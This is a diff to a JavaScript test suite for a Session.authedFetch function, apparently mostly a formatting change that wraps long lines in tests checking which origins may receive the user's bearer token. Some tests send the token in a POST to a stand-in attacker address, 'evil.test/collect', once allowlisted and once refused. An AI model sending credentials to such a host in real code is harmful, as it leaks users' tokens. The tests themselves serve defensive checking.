@@ -49,7 +49,9 @@ describe('Session.authedFetch: where the token may go', () => {
     await session.authedFetch(new URL('/.netlify/functions/hello', location.href));
     await session.authedFetch(new Request(`${location.origin}/api`));
 
-    expect(requests.map((request) => request.headers.get('Authorization'))).to.deep.equal(Array(3).fill(`Bearer ${token}`));
+    expect(requests.map((request) => request.headers.get('Authorization'))).to.deep.equal(
+      Array(3).fill(`Bearer ${token}`),
+    );
   });
 
   it('sends the token to the API’s origin', async () => {
@@ -96,16 +98,25 @@ describe('Session.authedFetch: where the token may go', () => {
 
     await session.authedFetch('http://evil.test/collect', { method: 'POST' }, { allowOrigins: ['http://evil.test'] });
     // Written with a trailing slash or in capitals, it is the same origin.
-    await session.authedFetch('https://api.example.org/v1/orders', undefined, { allowOrigins: ['HTTPS://API.example.org/'] });
+    await session.authedFetch('https://api.example.org/v1/orders', undefined, {
+      allowOrigins: ['HTTPS://API.example.org/'],
+    });
 
-    expect(requests.map((request) => request.url)).to.deep.equal(['http://evil.test/collect', 'https://api.example.org/v1/orders']);
-    expect(requests.map((request) => request.headers.get('Authorization'))).to.deep.equal(Array(2).fill(`Bearer ${token}`));
+    expect(requests.map((request) => request.url)).to.deep.equal([
+      'http://evil.test/collect',
+      'https://api.example.org/v1/orders',
+    ]);
+    expect(requests.map((request) => request.headers.get('Authorization'))).to.deep.equal(
+      Array(2).fill(`Bearer ${token}`),
+    );
   });
 
   it('names one origin for one origin: another one is still refused', async () => {
     const { session, requests } = loggedIn();
 
-    const error = await refusal(session.authedFetch('https://evil.test/collect', {}, { allowOrigins: ['http://evil.test'] }));
+    const error = await refusal(
+      session.authedFetch('https://evil.test/collect', {}, { allowOrigins: ['http://evil.test'] }),
+    );
 
     expect(error.name).to.equal('SecurityError');
     expect(requests).to.deep.equal([]);
